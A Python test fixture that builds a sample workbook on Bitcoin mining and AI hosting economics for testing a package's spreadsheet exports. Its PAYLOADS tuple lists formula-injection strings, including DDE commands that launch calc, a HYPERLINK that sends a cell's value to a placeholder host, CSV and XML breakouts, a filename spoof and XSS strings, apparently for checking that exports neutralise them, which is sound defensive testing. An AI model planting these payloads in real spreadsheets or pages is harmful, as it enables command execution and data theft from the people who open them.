"""A workbook as the desk makes it, small and with every kind of cell, for the tests of the exports."""

from datetime import UTC, date, datetime
from math import nan

from minerdesk.export.tables import Chart, ChartKind, Column, Kind, Table, Workbook

AS_OF = datetime(2026, 1, 16, 12, tzinfo=UTC)

#: Texts that a spreadsheet would run, or that break out of a cell, a row or a tag.
PAYLOADS = (
    "=1+1",
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("https://example.invalid?x="&A1,"click")',
    "=IMPORTXML(CONCAT(A1),'//a')",
    "+1+1",
    "+cmd|' /C calc'!A0",
    "-1+1",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    " =1+1",
    "\xa0=1+1",
    "\x00=1+1",
    "'=1+1",
    "''@A1",
    "＝1+1",
    "＋1",
    "－1",
    "＠A1",
    '"=1+1"',
    'x",=1+1,"',
    "x\r\n=1+1",
    "</t></si><f>1+1</f>",
    "# =1+1",
    "\u200b=1+1",
    "\u202e=1+1",
    "\ufeff@A1",
    "abc\u202egnp.exe",
    "<script>alert(1)</script>",
    '"><img src=x onerror=alert(1)>',
    "]]><svg onload=alert(1)>",
    "&lt;b&gt; &amp; <!-- x -->",
    "[a](javascript:alert(1)) ![b](http://example.invalid/c.png)",
    "javascript:alert(1)",
    "=1+1" + "x" * 3_000,
)


def comparison(*, labels=("Mining", "GPU cloud", "Colocation")) -> Table:
    figures = ((98.611111111111114, -12.5), (1234.5678901234567, 0.1 + 0.2), (240.0, nan))
    return Table(
        name="Comparison",
        title="What a MWh earns",
        columns=(
            Column(key="business", title="Business", kind=Kind.TEXT),
            Column(key="revenue_usd_per_mwh", title="Revenue", unit="$/MWh", decimals=2),
            Column(key="after_capital_usd_per_mwh", title="After capital", unit="$/MWh", decimals=2),
        ),
        rows=tuple((label, *figures[index % 3]) for index, label in enumerate(labels)),
        notes=("Colocation passes its power through",),
        chart=Chart(kind=ChartKind.BAR, category="business", values=("after_capital_usd_per_mwh",)),
    )


def observations() -> Table:
    return Table(
        name="Observations",
        title="What was observed",
        columns=(
            Column(key="quantity", title="Quantity", kind=Kind.TEXT),
            Column(key="value", title="Value"),
            Column(key="unit", title="Unit", kind=Kind.TEXT),
            Column(key="as_of", title="As of", unit="UTC", kind=Kind.DATETIME),
            Column(key="source", title="Source", kind=Kind.TEXT),
        ),
        rows=(
            ("btc_price_usd", 95546.25, "$/BTC", datetime(2026, 1, 16, 11, 58, 30, tzinfo=UTC), "coinbase"),
            ("tip_height", 932_456, "blocks", datetime(2026, 1, 16, 11, 51, tzinfo=UTC), "mempool.space"),
        ),
    )


def history() -> Table:
    return Table(
        name="History",
        title="Day by day",
        columns=(
            Column(key="day", title="Day, UTC", kind=Kind.DATE),
            Column(key="network_hashrate_7d_eh_s", title="Hash rate, 7-day mean", unit="EH/s", decimals=1),
        ),
        rows=((date(2026, 1, 13), 1021.4), (date(2026, 1, 14), None), (date(2026, 1, 15), 1004.75)),
        chart=Chart(kind=ChartKind.LINE, category="day", values=("network_hashrate_7d_eh_s",)),
    )


def workbook(*tables: Table) -> Workbook:
    return Workbook(
        title="Mining and AI hosting, per MWh",
        as_of=AS_OF,
        tables=tables or (comparison(), observations(), history()),
        notes=("Before income tax", "power.price_usd_per_mwh = 50"),
    )
